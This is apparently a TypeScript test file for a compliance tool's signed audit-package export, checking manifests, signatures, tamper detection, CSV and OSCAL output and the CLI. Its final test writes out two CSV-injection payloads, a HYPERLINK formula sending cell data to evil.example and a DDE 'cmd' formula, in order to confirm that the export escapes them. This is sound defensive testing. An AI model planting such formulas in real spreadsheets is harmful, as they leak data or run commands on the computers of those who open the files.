// The audit package against DynamoDB Local, for the sample organisation after the cycle
// `npm start` runs: every part in each format, a manifest that matches the files and a
// signature that verifies (with the local key, with a KMS key, and with openssl as the
// README tells auditors), tampering named, CSV that Excel reads with its Chinese, OSCAL
// UUIDs the same from one export to the next, bad input refused naming the field with
// nothing written, and the command line end to end.
import { execFile, execFileSync } from 'node:child_process';
import { createHash, createPublicKey, generateKeyPairSync, sign } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { kmsManifestSigner } from '../lib/adapters/aws/kms-signer.ts';
import { readPackageDir, writePackageDir } from '../lib/adapters/files/package-dir.ts';
import { localManifestSigner } from '../lib/adapters/local/local-manifest-signer.ts';
import { MANIFEST_PATH, verifyPackage, type Manifest } from '../lib/domain/export/manifest.ts';
import { OSCAL_FILES } from '../lib/domain/export/oscal.ts';
import type { PackageFile } from '../lib/domain/export/package.ts';
import { zipPackage } from '../lib/domain/export/zip.ts';
import { InputError, NotFoundError } from '../lib/errors.ts';
import type { Runtime } from '../lib/runtime.ts';
import { registerEvidence } from '../lib/usecases/evidence/register.ts';
import { exportPackage } from '../lib/usecases/export/export-package.ts';
import { answerTask } from '../lib/usecases/review/answer.ts';
import type { ManifestSigner } from '../lib/usecases/export/signer.ts';
import { testRuntime } from './support/local-store.ts';
import { runSampleCycle, SAMPLE_NOW, SAMPLE_ORG } from './support/sample-cycle.ts';
import { tempDir } from './support/temp-dir.ts';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const ORG = SAMPLE_ORG;
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

const asMap = (files: readonly PackageFile[]) => new Map(files.map((f) => [f.path, f.content]));
const json = (files: readonly PackageFile[], name: string) => JSON.parse((files.find((f) => f.path === name)?.content ?? Buffer.from('null')).toString('utf8')) as Record<string, unknown>;
const names = (files: readonly PackageFile[]) => files.map((f) => f.path).sort();

/** Of jq and openssl, the ones not on PATH: the package's signature is checked with them, as the README tells auditors, apart from verifyPackage. */
function missingTools(): string[] {
  return ['jq', 'openssl'].filter((command) => {
    try {
      execFileSync(command, [command === 'openssl' ? 'version' : '--version'], { stdio: 'ignore' });
      return false;
    } catch {
      return true;
    }
  });
}

/** Every UUID a document defines or refers to. */
function uuidsOf(doc: unknown): string[] {
  const out: string[] = [];
  const walk = (v: unknown) => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === 'object') {
      for (const [k, x] of Object.entries(v)) {
        if ((k === 'uuid' || k.endsWith('-uuid')) && typeof x === 'string') out.push(x);
        else if (k.endsWith('-uuids') && Array.isArray(x)) out.push(...(x as string[]));
        else walk(x);
      }
    }
  };
  walk(doc);
  return out.sort();
}

/** A stand-in for KMS with a P-256 key of its own: GetPublicKey, and Sign of a RAW message as KMS does (ECDSA over its SHA-256, DER). */
function fakeKms(spec = 'ECC_NIST_P256') {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const calls: { name: string; input: Record<string, unknown> }[] = [];
  const client = {
    async send(command: { constructor: { name: string }; input: Record<string, unknown> }) {
      calls.push({ name: command.constructor.name, input: command.input });
      if (command.constructor.name === 'GetPublicKeyCommand') {
        return {
          KeyId: 'arn:aws:kms:ap-east-1:111122223333:key/0b7e6f3a-1111-4222-8333-944455556666',
          KeySpec: spec,
          KeyUsage: 'SIGN_VERIFY',
          SigningAlgorithms: ['ECDSA_SHA_256'],
          PublicKey: new Uint8Array(publicKey.export({ type: 'spki', format: 'der' })),
        };
      }
      if (command.input.MessageType !== 'RAW') return { Signature: new Uint8Array(72) }; // a digest: this stand-in cannot sign one
      return { Signature: new Uint8Array(sign('sha256', command.input.Message as Uint8Array, privateKey)) };
    },
  };
  return { client: client as never, calls };
}

describe('the audit package of the sample organisation', () => {
  let rt: Runtime;
  let signer: ManifestSigner;
  let quarter: string;
  let keyDir: string;

  beforeAll(async () => {
    const missing = missingTools();
    if (missing.length > 0) {
      throw new Error(`${missing.join(' and ')} not found on PATH: these tests check the package's signature with jq and openssl, as the README tells auditors; install Debian's packages (apt-get install ${missing.join(' ')}; .ci/run does where they are missing)`);
    }
    rt = await testRuntime();
    quarter = await runSampleCycle(rt);
    keyDir = tempDir('export-key-');
    signer = localManifestSigner(keyDir);
  });

  const exportAs = (format: string, now = SAMPLE_NOW, period = quarter) => exportPackage(rt, { orgId: ORG, period, format, signer, now });

  it('json: one file per part and a manifest with the SHA-256 and size of each, signed with the local key', async () => {
    const { files, manifest } = await exportAs('json');
    expect(quarter).toBe('2026-Q4');
    expect(names(files)).toEqual(['audit.json', 'datamap.json', 'evidence.json', 'gaps.json', 'manifest.json', 'review.json', 'soa.json']);
    expect(files.at(-1)?.path).toBe(MANIFEST_PATH);
    const written = json(files, MANIFEST_PATH) as unknown as Manifest;
    expect(written).toEqual(JSON.parse(JSON.stringify(manifest)));
    expect(written.files.map((f) => f.path)).toEqual(names(files).filter((n) => n !== MANIFEST_PATH));
    for (const entry of written.files) {
      const content = files.find((f) => f.path === entry.path)?.content as Buffer;
      expect(entry).toEqual({ path: entry.path, sha256: createHash('sha256').update(content).digest('hex'), bytes: content.byteLength });
    }
    expect(written).toMatchObject({ format: 'json', period: '2026-Q4', orgId: ORG, generatedAt: SAMPLE_NOW.toISOString(), window: { from: '2026-09-30T16:00:00.000Z', to: '2026-12-31T16:00:00.000Z', timeZone: 'Asia/Hong_Kong' } });
    expect(written.signature).toMatchObject({ algorithm: 'Ed25519', keyId: signer.keyId, publicKeyPem: signer.publicKeyPem });
    // The head is the chain's after the seal that came first: a later seal starts from it.
    // The export's own entry (export.made, written after the package) is the one new entry:
    // the next seal puts it in one digest chained to the package's head.
    expect(written.audit.hash).toMatch(/^[0-9a-f]{64}$/);
    const next = await rt.audit.seal(ORG, 'test', { at: new Date().toISOString() });
    expect(next).toMatchObject({ seq: written.audit.seq + 1, sealedEntries: 1 });
    const digest = (await rt.audit.digests(ORG)).find((d) => d.seq === next.seq);
    expect(digest).toMatchObject({ previousHash: written.audit.hash, hash: next.hash });
    expect(digest?.entries).toHaveLength(1);
    const check = verifyPackage(asMap(files), { trustedKeyPem: signer.publicKeyPem });
    expect(check).toMatchObject({ ok: true, problems: [] });
  });

  it('json: the review holds every task with every answer given, the evidence of the period, the gaps, the data map and the audit entries of the quarter', async () => {
    const { files } = await exportAs('json');
    const review = json(files, 'review.json') as { review: { id: string; status: string }; tasks: Record<string, unknown>[]; nonconformities: unknown[] };
    const stored = await rt.reviews.tasks(ORG, quarter);
    expect(review.review).toMatchObject({ id: '2026-Q4', status: 'open' });
    expect(review.tasks.map((t) => t.id).sort()).toEqual(stored.map((t) => t.id).sort());
    const answered = stored.filter((t) => t.result);
    expect(answered.length).toBeGreaterThanOrEqual(6);
    for (const t of answered) {
      expect(review.tasks.find((r) => r.id === t.id)).toMatchObject({ result: t.result, comment: t.comment, answeredBy: t.answeredBy, answeredAt: t.answeredAt, ...(t.reviewDecision ? { reviewDecision: t.reviewDecision } : {}) });
    }
    // The answer with a file registered it: in the task, and in the evidence index with its hash.
    const withFile = review.tasks.find((t) => t.control === 'A.5.14') as { evidence: { id: string; origin: string; sha256?: string }[] };
    const registered = withFile.evidence.find((e) => e.origin === 'answer');
    expect(registered?.sha256).toMatch(/^[0-9a-f]{64}$/);
    const evidence = (json(files, 'evidence.json') as { evidence: { id: string; collected: string; validUntil?: string; sha256?: string }[] }).evidence;
    expect(evidence.find((e) => e.id === registered?.id)?.sha256).toBe(registered?.sha256);
    // Only evidence that counted in the quarter: collected by its end, valid at some time in it, not retired before it.
    expect(evidence.every((e) => e.collected <= '2026-12-31' && (!e.validUntil || e.validUntil >= '2026-10-01'))).toBe(true);
    const all = await rt.organisations.evidence(ORG);
    const inQuarter = all.filter((e) => e.collected <= '2026-12-31' && (!e.validUntil || e.validUntil >= '2026-10-01') && !(e.retiredOn && e.retiredOn <= '2026-10-01'));
    expect(evidence.map((e) => e.id).sort()).toEqual(inQuarter.map((e) => e.id).sort());
    // the sample's ev-005, valid into December, was retired on 2026-09-15
    expect(all.find((e) => e.id === 'ev-005')).toMatchObject({ retiredOn: '2026-09-15', validUntil: '2026-12-09' });
    expect(evidence.map((e) => e.id)).not.toContain('ev-005');
    expect(evidence.length).toBeLessThan(all.length);
    const gaps = json(files, 'gaps.json') as { gaps: { id: string; status: string }[]; analysis: { id: string } };
    expect(gaps.gaps.length).toBe((await rt.gaps.all(ORG)).length);
    expect(gaps.analysis.id).toMatch(/^gap-analysis-harbour-ledger-/);
    const datamap = json(files, 'datamap.json') as { dataMap: { scanId: string; sources: { id: string; rating?: string }[] } };
    expect(datamap.dataMap.sources.length).toBe(7);
    expect(datamap.dataMap.sources.find((s) => s.id === 'dingtalk-hr')?.rating).toBe('red');
    const audit = json(files, 'audit.json') as { head: { seq: number }; entries: { at: string; key: string; hash: string }[] };
    expect(audit.entries.length).toBeGreaterThan(100);
    expect(audit.entries.every((e) => e.at >= '2026-09-30T16:00:00.000Z' && e.at < '2026-12-31T16:00:00.000Z' && /^[0-9a-f]{64}$/.test(e.hash) && e.key.startsWith(e.at))).toBe(true);
    // The sample's import is stamped the same morning: its entries are the period's.
    expect(audit.entries.some((e) => (e as unknown as { actor: string }).actor.startsWith('import:'))).toBe(true);
  });

  it('a package written to a folder verifies; a changed file, a changed manifest, a missing or an extra file is named', async () => {
    const { files } = await exportAs('json');
    const dir = path.join(tempDir('export-tamper-'), 'package');
    await writePackageDir(dir, files);
    expect(readdirSync(dir).sort()).toEqual(names(files));
    expect(verifyPackage(readPackageDir(dir).files).ok).toBe(true);

    // One byte of the gaps changed.
    const gapsFile = path.join(dir, 'gaps.json');
    const original = readFileSync(gapsFile);
    writeFileSync(gapsFile, Buffer.from(original.toString('utf8').replace('"open"', '"closed"'), 'utf8'));
    const changed = verifyPackage(readPackageDir(dir).files);
    expect(changed.ok).toBe(false);
    expect(changed.problems[0]).toMatch(/^gaps\.json: SHA-256 [0-9a-f]{64}, the manifest says [0-9a-f]{64}$/);

    // The manifest changed to match: its signature no longer verifies.
    const manifestFile = path.join(dir, MANIFEST_PATH);
    const manifest = JSON.parse(readFileSync(manifestFile, 'utf8')) as Manifest;
    const entry = manifest.files.find((f) => f.path === 'gaps.json') as { sha256: string; bytes: number };
    entry.sha256 = createHash('sha256').update(readFileSync(gapsFile)).digest('hex');
    entry.bytes = readFileSync(gapsFile).byteLength;
    writeFileSync(manifestFile, JSON.stringify(manifest, null, 2));
    const resigned = verifyPackage(readPackageDir(dir).files);
    expect(resigned.problems).toHaveLength(1);
    expect(resigned.problems[0]).toMatch(/^manifest\.json: the signature does not verify/);

    // Signed again, but with another key: only the key the organisation publishes is trusted.
    const other = generateKeyPairSync('ed25519');
    const { signature: _s, ...rest } = manifest;
    const { signingInput } = await import('../lib/domain/export/manifest.ts');
    const forged = { ...rest, signature: { algorithm: 'Ed25519', keyId: 'forged', publicKeyPem: other.publicKey.export({ type: 'spki', format: 'pem' }).toString(), value: sign(null, signingInput(rest), other.privateKey).toString('base64') } };
    writeFileSync(manifestFile, JSON.stringify(forged, null, 2));
    expect(verifyPackage(readPackageDir(dir).files).ok).toBe(true); // consistent in itself
    const pinned = verifyPackage(readPackageDir(dir).files, { trustedKeyPem: signer.publicKeyPem });
    expect(pinned.problems[0]).toMatch(/^manifest\.json: signed with key [0-9a-f]{64}, not with the key given/);

    // Put back; then one file missing and one too many.
    writeFileSync(gapsFile, original);
    await writePackageDir(dir, files, { force: true });
    rmSync(path.join(dir, 'soa.json'));
    writeFileSync(path.join(dir, 'notes.txt'), 'added later');
    expect(verifyPackage(readPackageDir(dir).files).problems).toEqual(['soa.json: missing', 'notes.txt: not in the manifest']);
  });

  it('csv: one file per table, each UTF-8 with a byte-order mark, the Chinese of the sample intact, times in Hong Kong time', async () => {
    const { files } = await exportAs('csv');
    expect(names(files)).toEqual(['audit.csv', 'datamap.csv', 'evidence.csv', 'gaps.csv', 'manifest.json', 'nonconformities.csv', 'review.csv', 'soa.csv']);
    for (const f of files.filter((x) => x.path.endsWith('.csv'))) expect(f.content.subarray(0, 3).equals(BOM), f.path).toBe(true);
    const text = (name: string) => (files.find((f) => f.path === name)?.content as Buffer).toString('utf8');
    const evidence = parse(text('evidence.csv'), { bom: true, columns: true }) as Record<string, string>[];
    expect(evidence.find((r) => r.evidence === 'ev-002')).toMatchObject({ title: '資訊保安政策員工簽閱紀錄 2026', control: 'A.5.1' });
    expect(text('evidence.csv')).toContain('銀行付款檔案傳輸紀錄覆核 2026年第三季');
    const review = parse(text('review.csv'), { bom: true, columns: true }) as Record<string, string>[];
    expect(review).toHaveLength((await rt.reviews.tasks(ORG, quarter)).length);
    expect(review.find((r) => r.control === 'A.8.8')).toMatchObject({ result: 'not-effective', 'answered by': 'cheung-chi-keung', 'answered (Asia/Hong_Kong)': '2026-11-30 17:00' });
    expect(Object.keys(parse(text('audit.csv'), { bom: true, columns: true })[0] as object)).toEqual(['at (UTC)', 'at (Asia/Hong_Kong)', 'event', 'subject', 'actor', 'detail', 'key', 'sha256']);
    expect(verifyPackage(asMap(files)).ok).toBe(true);
  });

  it('oscal: a plan, the results importing it and a plan of action, with the parts OSCAL has no model for; the same UUIDs in a second export', async () => {
    const first = await exportAs('oscal');
    const second = await exportAs('oscal', new Date('2026-12-02T03:00:00Z'));
    expect(names(first.files)).toEqual(['assessment-plan.json', 'assessment-results.json', 'audit.json', 'datamap.json', 'gaps.json', 'manifest.json', 'plan-of-action-and-milestones.json', 'soa.json']);
    for (const name of Object.values(OSCAL_FILES)) {
      const a = json(first.files, name);
      const b = json(second.files, name);
      expect(uuidsOf(a).length).toBeGreaterThan(10);
      expect(uuidsOf(b), name).toEqual(uuidsOf(a));
      // Made at another time: the documents say so, the UUIDs stay.
      expect(JSON.stringify(a)).not.toEqual(JSON.stringify(b));
    }
    const results = json(first.files, OSCAL_FILES.results)['assessment-results'] as { 'import-ap': { href: string }; results: { findings: { target: { 'target-id': string; status: { state: string } } }[] }[] };
    expect(results['import-ap'].href).toBe(OSCAL_FILES.plan);
    const findings = results.results[0]?.findings ?? [];
    expect(findings).toHaveLength(28);
    expect(findings.find((f) => f.target['target-id'] === 'A.8.8')?.target.status.state).toBe('not-satisfied');
    expect(findings.find((f) => f.target['target-id'] === 'A.5.1')?.target.status.state).toBe('satisfied');
    const poam = json(first.files, OSCAL_FILES.poam)['plan-of-action-and-milestones'] as { 'poam-items': unknown[] };
    const openGaps = (await rt.gaps.all(ORG)).filter((g) => g.status !== 'closed');
    expect(poam['poam-items']).toHaveLength(openGaps.length); // the review is open: no nonconformity yet
    expect(verifyPackage(asMap(first.files)).ok).toBe(true);
  });

  it('one zip for the HTTP route: the same files, and it verifies unpacked', async () => {
    const { files, manifest } = await exportAs('oscal');
    const zip = zipPackage(files, { mtime: new Date(manifest.generatedAt) });
    expect(zip.subarray(0, 2).toString('latin1')).toBe('PK');
    const unpacked = unzipSync(new Uint8Array(zip));
    expect(Object.keys(unpacked).sort()).toEqual(names(files));
    expect(verifyPackage(new Map(Object.entries(unpacked))).ok).toBe(true);
    expect(zipPackage(files, { mtime: new Date(manifest.generatedAt) }).equals(zip)).toBe(true);
  });

  it('bad input is refused naming the field, and writes nothing (no seal, no audit entry)', async () => {
    const before = (await rt.audit.read(ORG)).length;
    const digests = (await rt.audit.digests(ORG)).length;
    const refusal = (format: string, period: string, orgId = ORG) => exportPackage(rt, { orgId, period, format, signer, now: SAMPLE_NOW });
    await expect(refusal('json', '2026-Q5')).rejects.toThrow(InputError);
    await expect(refusal('json', '2026-Q5')).rejects.toThrow(/^period: "2026-Q5" must be a quarter written YYYY-Qn/);
    await expect(refusal('json', '2026-11')).rejects.toThrow(/^period: "2026-11"/);
    await expect(refusal('xml', '2026-Q4')).rejects.toThrow(/^format: "xml" must be one of json, csv, oscal$/);
    await expect(refusal('json', '2027-Q2')).rejects.toThrow(/^period: 2027-Q2 has not begun \(it begins 2027-04-01 in Asia\/Hong_Kong\)$/);
    await expect(refusal('json', '2026-Q4', 'no-such-org')).rejects.toThrow(NotFoundError);
    expect((await rt.audit.read(ORG)).length).toBe(before);
    expect((await rt.audit.digests(ORG)).length).toBe(digests);
  });

  it('a past quarter: only its own entries, statuses as at its end, no review', async () => {
    const { files } = await exportAs('json', SAMPLE_NOW, '2026-Q3');
    expect(json(files, 'review.json')).toMatchObject({ review: null, tasks: [] });
    expect((json(files, 'audit.json') as { entries: unknown[] }).entries).toEqual([]);
    expect(json(files, 'evidence.json')).toMatchObject({ asOf: '2026-09-30' });
    expect(json(files, 'datamap.json')).toMatchObject({ dataMap: null }); // the first scan was in November
    const oscal = await exportAs('oscal', SAMPLE_NOW, '2026-Q3');
    expect(names(oscal.files)).toContain(OSCAL_FILES.results);
  });

  it('signed with a KMS key (ECDSA P-256): the public key read once, RAW messages signed by KMS, the package verifies', async () => {
    const kms = fakeKms();
    const kmsSigner = await kmsManifestSigner('alias/compliance-manifest', { client: kms.client });
    expect(kmsSigner).toMatchObject({ algorithm: 'ECDSA_SHA_256', keyId: expect.stringMatching(/^arn:aws:kms:/) });
    const { files, manifest } = await exportPackage(rt, { orgId: ORG, period: quarter, format: 'json', signer: kmsSigner, now: SAMPLE_NOW });
    expect(manifest.signature.algorithm).toBe('ECDSA_SHA_256');
    expect(verifyPackage(asMap(files), { trustedKeyPem: kmsSigner.publicKeyPem }).ok).toBe(true);
    expect(kms.calls.map((c) => c.name)).toEqual(['GetPublicKeyCommand', 'SignCommand']);
    expect(kms.calls[1]?.input).toMatchObject({ KeyId: kmsSigner.keyId, MessageType: 'RAW', SigningAlgorithm: 'ECDSA_SHA_256' });
    // A message beyond KMS's 4,096 bytes goes as its SHA-256.
    const long = Buffer.alloc(5000, 1);
    await kmsSigner.sign(long);
    expect(kms.calls[2]?.input).toMatchObject({ MessageType: 'DIGEST', Message: createHash('sha256').update(long).digest() });
    // A key that cannot sign this way is refused, naming the variable.
    await expect(kmsManifestSigner('alias/wrong', { client: fakeKms('RSA_2048').client })).rejects.toThrow(/^MANIFEST_KEY_ID alias\/wrong: must be an asymmetric KMS key for signing/);
    // openssl verifies the KMS signature too, apart from verifyPackage.
    const dir = path.join(tempDir('export-kms-'), 'package');
    await writePackageDir(dir, files);
    const sh = (script: string) => execFileSync('sh', ['-c', script], { cwd: dir, encoding: 'utf8' });
    sh(`jq -cjS 'del(.signature)' manifest.json > ../signed.json && jq -r .signature.publicKeyPem manifest.json > ../key.pem && jq -r .signature.value manifest.json | base64 -d > ../signature.bin`);
    expect(sh('openssl dgst -sha256 -verify ../key.pem -signature ../signature.bin ../signed.json')).toMatch(/Verified OK/);
  });

  it('an auditor checks the package with jq, sha256sum and openssl alone, as the README says', async () => {
    const { files } = await exportAs('csv');
    const dir = path.join(tempDir('export-openssl-'), 'package');
    await writePackageDir(dir, files);
    const sh = (script: string) => execFileSync('sh', ['-c', script], { cwd: dir, encoding: 'utf8' });
    expect(sh(`jq -r '.files[] | "\\(.sha256)  \\(.path)"' manifest.json | sha256sum -c`)).toMatch(/evidence\.csv: OK/);
    sh(`jq -cjS 'del(.signature)' manifest.json > ../signed.json && jq -r .signature.publicKeyPem manifest.json > ../key.pem && jq -r .signature.value manifest.json | base64 -d > ../signature.bin`);
    expect(sh('openssl pkeyutl -verify -pubin -inkey ../key.pem -rawin -in ../signed.json -sigfile ../signature.bin')).toMatch(/Signature Verified Successfully/);
    // The key is the organisation's: its fingerprint is the one `export verify` prints.
    const fingerprint = createHash('sha256').update(createPublicKey(signer.publicKeyPem).export({ type: 'spki', format: 'der' })).digest('hex');
    expect(sh(`openssl pkey -pubin -in ../key.pem -outform DER | sha256sum`).split(' ')[0]).toBe(fingerprint);
  });

  describe('the folder it is written to', () => {
    it('is written whole or not at all: a failure part way leaves neither the folder nor a partial one', async () => {
      const parent = tempDir('export-half-');
      const target = path.join(parent, 'package');
      const twice = [
        { path: 'a.json', content: Buffer.from('{}') },
        { path: 'a.json', content: Buffer.from('{}') },
      ];
      await expect(writePackageDir(target, twice)).rejects.toThrow(/^--out .*package: could not be written \(EEXIST\); nothing was left there$/);
      expect(readdirSync(parent)).toEqual([]);
    });

    it('refuses a folder that holds anything unless --force, which replaces it whole', async () => {
      const { files } = await exportAs('json');
      const target = path.join(tempDir('export-full-'), 'package');
      mkdirSync(target);
      writeFileSync(path.join(target, 'keep.txt'), 'mine');
      await expect(writePackageDir(target, files)).rejects.toThrow(/^--out .*package: is not empty; choose another folder, or give --force to replace what it holds$/);
      expect(readdirSync(target)).toEqual(['keep.txt']);
      await writePackageDir(target, files, { force: true });
      expect(readdirSync(target).sort()).toEqual(names(files));
      expect(readdirSync(path.dirname(target))).toEqual(['package']);
    });

    it('names --out when it cannot be written: under a file, or in a folder without write permission', async () => {
      const { files } = await exportAs('json');
      const parent = tempDir('export-denied-');
      writeFileSync(path.join(parent, 'file'), '');
      await expect(writePackageDir(path.join(parent, 'file', 'package'), files)).rejects.toThrow(/^--out .*file\/package: a part of the path is not a folder$/);
      if (process.getuid?.() !== 0) {
        const locked = path.join(parent, 'locked');
        mkdirSync(locked, { mode: 0o500 });
        chmodSync(locked, 0o500);
        await expect(writePackageDir(path.join(locked, 'package'), files)).rejects.toThrow(/^--out .*locked\/package: cannot write in .*locked \(permission denied\)$/);
        expect(readdirSync(locked)).toEqual([]);
      }
    });
  });

  describe('compliance export and export verify, as a user runs them', () => {
    const NODE = process.execPath;
    const run = (args: string[]) =>
      new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
        const env = { ...process.env };
        for (const key of ['DYNAMODB_ENDPOINT', 'COMPLIANCE_TABLE', 'COMPLIANCE_NOW', 'MANIFEST_KEY_ID', 'NODE_OPTIONS']) delete env[key];
        execFile(NODE, ['lib/cli/main.mjs', ...args], { cwd: ROOT, env, timeout: 60_000 }, (error, stdout, stderr) =>
          resolve({ code: error ? (typeof error.code === 'number' ? error.code : -1) : 0, stdout, stderr }),
        );
      });

    it('writes the package of the quarter and verifies it; a changed file makes verify exit 1 naming it', async () => {
      const out = path.join(tempDir('export-cli-'), 'package');
      const store = ['--endpoint', inject('dynamoEndpoint'), '--table', rt.store.table, '--data-dir', keyDir, '--now', '2026-11-30'];
      const made = await run(['export', '--period', '2026-Q4', '--format', 'oscal', '--out', out, ...store]);
      expect(made.stderr).toBe('');
      expect(made.code).toBe(0);
      expect(made.stdout).toMatch(/^Audit package 2026-Q4 of harbour-ledger \(oscal\) written to .*package: 7 files and the manifest\.json that lists them, signed with Ed25519 key [0-9a-f]{16}; audit chain head \d+ \([0-9a-f]{64}\)\./);
      const keyFile = path.join(tempDir('export-cli-key-'), 'public.pem');
      writeFileSync(keyFile, signer.publicKeyPem);
      // verify reads the folder and the refused second export writes nothing to it: at once
      const [verified, again] = await Promise.all([run(['export', 'verify', out, '--public-key', keyFile]), run(['export', '--period', '2026-Q4', '--out', out, ...store])]);
      expect(verified.code).toBe(0);
      expect(verified.stdout).toMatch(/all 7 files match manifest\.json; its signature verifies \(Ed25519, key [0-9a-f]{16}, SHA-256 fingerprint [0-9a-f]{64}\), the key given\./);
      writeFileSync(path.join(out, 'soa.json'), '{}\n');
      const tampered = await run(['export', 'verify', out]);
      expect(tampered.code).toBe(1);
      expect(tampered.stderr).toMatch(/package: soa\.json: SHA-256 [0-9a-f]{64}, the manifest says [0-9a-f]{64}\n$/);
      expect(again.code).toBe(2);
      expect(again.stderr).toMatch(/^--out .*package: is not empty; choose another folder, or give --force/);
    });

    it('refuses a bad period, a format that is no package format, and --format oscal elsewhere (exit 2, nothing started)', async () => {
      // Five refusals, each before anything starts: run at once.
      const [q5, missing, human, elsewhere, noDir] = await Promise.all([
        run(['export', '--period', '2026-Q5']),
        run(['export']),
        run(['export', '--period', '2026-Q4', '--format', 'human']),
        run(['--format', 'oscal', 'catalogue', 'pdpo']),
        run(['export', 'verify', path.join(tmpdir(), 'no-such-package-dir')]),
      ]);
      expect(q5).toMatchObject({ code: 2, stderr: '--period: "2026-Q5" must be a quarter written YYYY-Qn, such as 2026-Q4\n' });
      expect(missing).toMatchObject({ code: 2, stderr: '--period: required, a quarter written YYYY-Qn such as 2026-Q4\n' });
      expect(human).toMatchObject({ code: 2, stderr: '--format human: an audit package is written as json, csv, oscal\n' });
      expect(elsewhere).toMatchObject({ code: 2, stderr: '--format oscal: only compliance export writes OSCAL\n' });
      expect(noDir.code).toBe(2);
      expect(noDir.stderr).toMatch(/^DIR .*no-such-package-dir: no such folder\n$/);
      expect(existsSync(path.join(ROOT, 'audit-package-harbour-ledger-2026-Q5-json'))).toBe(false);
    });
  });

  // Last: it adds an answer and an item to the sample the tests above read.
  it('csv: a comment or title an owner typed as a formula is text in the spreadsheet, as typed in the JSON, and the package verifies', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
    const dde = "=cmd|' /C calc'!A0";
    const now = new Date('2026-11-30T10:00:00Z');
    const item = await registerEvidence(rt, ORG, 'jason-tsang', { control: 'A.8.13', title: dde, kind: 'restore-test', location: 's3://harbour-ledger-evidence/a.8.13/formula.pdf', sha256: 'ab'.repeat(32) }, now);
    await answerTask(rt, { orgId: ORG, taskId: `${quarter}/A.8.13`, as: 'jason-tsang', result: 'not-effective', comment: formula, now });
    const csv = await exportAs('csv', now);
    const text = (name: string) => (csv.files.find((f) => f.path === name)?.content as Buffer).toString('utf8');
    const review = parse(text('review.csv'), { bom: true, columns: true }) as Record<string, string>[];
    expect(review.find((r) => r.control === 'A.8.13')?.comment).toBe(`'${formula}`);
    const evidence = parse(text('evidence.csv'), { bom: true, columns: true }) as Record<string, string>[];
    expect(evidence.find((r) => r.evidence === item.id)?.title).toBe(`'${dde}`);
    expect(verifyPackage(asMap(csv.files), { trustedKeyPem: signer.publicKeyPem }).ok).toBe(true);
    const data = await exportAs('json', now);
    expect((json(data.files, 'review.json') as { tasks: { control: string; comment?: string }[] }).tasks.find((t) => t.control === 'A.8.13')?.comment).toBe(formula);
    expect((json(data.files, 'evidence.json') as { evidence: { id: string; title: string }[] }).evidence.find((e) => e.id === item.id)?.title).toBe(dde);
  });
});
